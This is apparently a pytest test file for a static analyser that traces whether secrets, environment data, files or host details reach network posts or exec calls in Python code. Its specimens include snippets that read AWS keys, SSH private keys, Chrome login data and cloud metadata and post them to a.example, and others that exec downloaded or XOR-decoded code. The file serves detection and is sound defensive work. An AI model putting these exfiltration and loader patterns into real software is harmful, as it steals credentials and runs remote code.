# ruff: noqa: E501 - one specimen a line reads best
"""Which labels reach which calls."""

import pytest

from pratique.vet.python import Call, Label, read_python

SEND = 'import requests\nrequests.post("https://a.example", data=X)\n'


def sent(source: str) -> frozenset[Label]:
    """Labels of what is posted."""
    calls = [call for call in read_python(source).calls if call.name.endswith(".post")]
    return frozenset().union(*(call.labels for call in calls))


def executed(source: str) -> Call:
    return next(call for call in read_python(source).calls if call.name == "builtins.exec")


@pytest.mark.parametrize(
    ("source", "label"),
    [
        ("import os\nX = os.environ", Label.ENVIRONMENT),
        ("import os\nX = dict(os.environ)", Label.ENVIRONMENT),
        ("import os, json\nX = json.dumps(dict(os.environ))", Label.ENVIRONMENT),
        ("import os, base64, json\nX = base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()", Label.ENVIRONMENT),
        ("import os\nX = {k: v for k, v in os.environ.items()}", Label.ENVIRONMENT),
        ('import os\nX = "\\n".join(f"{k}={v}" for k, v in os.environ.items())', Label.ENVIRONMENT),
        ('import os\nX = ""\nfor k in os.environ:\n    X += k + os.environ[k]', Label.ENVIRONMENT),
        ("import os\nX = []\nfor k, v in os.environ.items():\n    X.append(v)", Label.ENVIRONMENT),
        ('import os\nX = os.environ["AWS_SECRET_ACCESS_KEY"]', Label.SECRET),
        ('import os\nX = os.getenv("GITHUB_TOKEN", "")', Label.SECRET),
        ('import os\nX = {"a": {"b": os.environ.get("API_KEY")}}', Label.SECRET),
        ('from os import environ as e\nX = e["DB_PASSWORD"]', Label.SECRET),
        ('import os\nX = open(os.path.expanduser("~/.ssh/id_rsa")).read()', Label.SECRET),
        ('import os\nwith open(os.path.join(os.path.expanduser("~"), ".aws", "credentials")) as f:\n    X = f.read()', Label.SECRET),
        ('from pathlib import Path\nX = (Path.home() / ".ssh" / "id_rsa").read_text()', Label.SECRET),
        ('import os\nX = open(os.getenv("APPDATA") + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data", "rb").read()', Label.BROWSER),
        ("import browser_cookie3\nX = browser_cookie3.chrome()", Label.BROWSER),
        ("import socket\nX = socket.gethostname()", Label.HOST),
        ("import getpass, platform\nX = f'{getpass.getuser()}-{platform.node()}'", Label.HOST),
        ('import subprocess\nX = subprocess.check_output(["whoami"])', Label.HOST),
        ('import os\nX = os.popen("ipconfig /all").read()', Label.HOST),
        ('import subprocess\nX = subprocess.run("x", capture_output=True).stdout', Label.OUTPUT),
        ('import requests\nX = requests.get("http://169.254.169.254/latest/meta-data/").text', Label.CLOUD),
        ('import urllib.request as u\nX = u.urlopen("http://169.254.169.254/").read()', Label.CLOUD),
        ("import pyperclip\nX = pyperclip.paste()", Label.CLIPBOARD),
        ("from PIL import ImageGrab\nX = ImageGrab.grab()", Label.SCREEN),
        ("import sys\nX = sys.argv[1]", Label.INPUT),
        ("import os\ndef f():\n    return os.environ\nX = f()", Label.ENVIRONMENT),
        ("import os\ndef f(a):\n    return str(a)\nX = f(os.environ)", Label.ENVIRONMENT),
        ("import os\nclass A:\n    def __init__(self):\n        self.e = os.environ\n    def g(self):\n        return self.e\nX = A().g()", Label.ENVIRONMENT),
        ("import os\ntry:\n    X = os.environ\nexcept Exception:\n    X = None", Label.ENVIRONMENT),
        ("import os\nif a:\n    X = os.environ\nelse:\n    X = {}", Label.ENVIRONMENT),
        ("import os\nX = None\nwhile a:\n    X = b\n    b = os.environ", Label.ENVIRONMENT),
        ("import os\nX, y = os.environ, 1", Label.ENVIRONMENT),
        ("import os\nX = {}\nX['e'] = os.environ", Label.ENVIRONMENT),
        ("import os\nX = unknown(os.environ)", Label.ENVIRONMENT),
        ("X = {}\nX['a'] = open('notes').read()", Label.FILE),
        ("X = {}\nfor n in names():\n    X[n] = open(n).read()", Label.FILE),
        ("X = []\nfor line in open('notes'):\n    X.append(line)", Label.FILE),
        ("def f(p):\n    return p.read_text()\nX = f(unknown())", Label.FILE),
        ("import socket\nX = {}\nX.update(name=socket.gethostname())", Label.HOST),
        ("import socket\nfrom urllib.request import Request\nX = Request('https://a.example', data=socket.gethostname())", Label.HOST),
    ],
)  # fmt: skip
def test_a_label_reaches_the_network(source: str, label: Label) -> None:
    assert label in sent(f"{source}\n{SEND}")


@pytest.mark.parametrize(
    "source",
    [
        "import os\nX = len(os.environ)",
        "import os\nX = isinstance(os.environ, dict)",
        'import os\nX = os.environ["LANG"]',
        'import os\nX = os.environ["AUTHOR_NAME"]',
        "import os\nY = os.environ\nX = 'fixed'",
        "import os\nX = os.environ\nX = 'fixed'",
    ],
)
def test_what_says_nothing_carries_nothing(source: str) -> None:
    assert not sent(f"{source}\n{SEND}") & {Label.ENVIRONMENT, Label.SECRET, Label.NETWORK}


def test_the_answer_of_a_server_is_executed() -> None:
    call = executed('import requests\nexec(requests.get("https://a.example/x").text)')
    assert Label.NETWORK in call.labels


def test_a_file_beside_the_source_is_a_file() -> None:
    call = executed(
        "from pathlib import Path\nexec((Path(__file__).parent / 'x.txt').read_text())\n"
    )
    assert Label.FILE in call.labels


def test_an_answer_carries_no_label_of_what_was_asked() -> None:
    source = (
        'import os, requests\nr = requests.post("https://a.example", data=os.environ)\nexec(r.text)'
    )
    assert executed(source).labels == {Label.NETWORK}


def test_awaited_answers_in_contexts() -> None:
    source = """
import aiohttp
async def f():
    async with aiohttp.ClientSession() as s:
        async with s.get("https://a.example") as r:
            exec(await r.text())
"""
    file = read_python(source)
    assert "aiohttp.ClientSession().get" in {call.name for call in file.calls}
    assert Label.NETWORK in next(call for call in file.calls if call.name == "builtins.exec").labels


def test_methods_keep_their_origin() -> None:
    source = """
import socket, paramiko
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("a.example", 4444))
class C:
    def __init__(self):
        self.c = paramiko.SSHClient()
    def go(self):
        self.c.exec_command("x")
"""
    assert {"socket.socket().connect", "paramiko.SSHClient().exec_command"} <= {
        call.name for call in read_python(source).calls
    }


def test_swallowed_errors_make_a_call_quiet() -> None:
    loud, quiet = read_python(
        'import os\nos.system("a")\ntry:\n    os.system("b")\nexcept Exception:\n    pass\n'
    ).calls
    assert (loud.quiet, quiet.quiet) == (False, True)


def test_known_text_with_holes() -> None:
    file = read_python('import requests\ndef f(u):\n    requests.get(f"https://a.example/{u}/x")')
    assert file.calls[0].arguments[0].known == "https://a.example/\N{HORIZONTAL ELLIPSIS}/x"
    assert file.calls[0].labels == {Label.PARAMETER}


def test_alternatives_are_lines() -> None:
    file = read_python('import os\nc = "a" if x else "b"\nos.system(c)')
    assert file.calls[0].arguments[0].known.split("\n") == ["a", "b"]


def test_a_written_file_names_its_path() -> None:
    file = read_python('with open("/tmp/x.sh", "w") as f:\n    f.write("#!/bin/sh")')
    written = next(call for call in file.calls if call.name == "builtins.open().write")
    assert written.keywords["<file>"].constant == "/tmp/x.sh"
    assert "file.write" in written.roles


def test_builtins_that_are_replaced() -> None:
    (patched,) = read_python("import builtins\nbuiltins.print = lambda *a: None").calls
    assert patched.name == "builtins.setattr"
    assert patched.arguments[1].constant == "print"


@pytest.mark.parametrize(
    "turned",
    ["bytes(b ^ K[i % 8] for i, b in enumerate(ROWS))", "''.join(chr(ord(c) ^ 7) for c in ROWS)"],
)
def test_bytes_that_are_turned_one_by_one_are_decoded_whatever_they_are(turned: str) -> None:
    call = executed(f"from pkg.tables import K, ROWS\nexec(compile({turned}, 'x', 'exec'))\n")
    assert Label.DECODED in call.labels


def test_a_sum_of_unknown_things_is_not_decoded() -> None:
    call = executed("from pkg.tables import ROWS\nexec(''.join(row + 'x' for row in ROWS))\n")
    assert Label.DECODED not in call.labels
